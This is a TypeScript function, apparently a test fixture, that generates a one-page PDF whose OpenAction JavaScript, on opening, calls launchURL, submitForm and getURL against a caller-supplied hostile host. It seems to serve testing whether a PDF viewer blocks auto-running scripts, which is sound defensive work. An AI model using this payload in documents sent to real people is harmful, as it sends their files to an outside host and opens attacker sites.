/** A PDF of one page whose scripts, at its opening, try to send it away and to open another site. */
export function hostilePdf(evil: string): string {
  const script = `app.launchURL("${evil}/launched", true); this.submitForm("${evil}/submitted"); this.getURL("${evil}/got");`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (${script.replace(/[()]/g, '\\$&')}) >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
  ];
  let text = '%PDF-1.7\n';
  const starts = objects.map((object, index) => {
    const start = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return start;
  });
  const table = starts.map((start) => `${String(start).padStart(10, '0')} 00000 n \n`).join('');
  const end = `trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF`;
  return `${text}xref\n0 4\n0000000000 65535 f \n${table}${end}`;
}
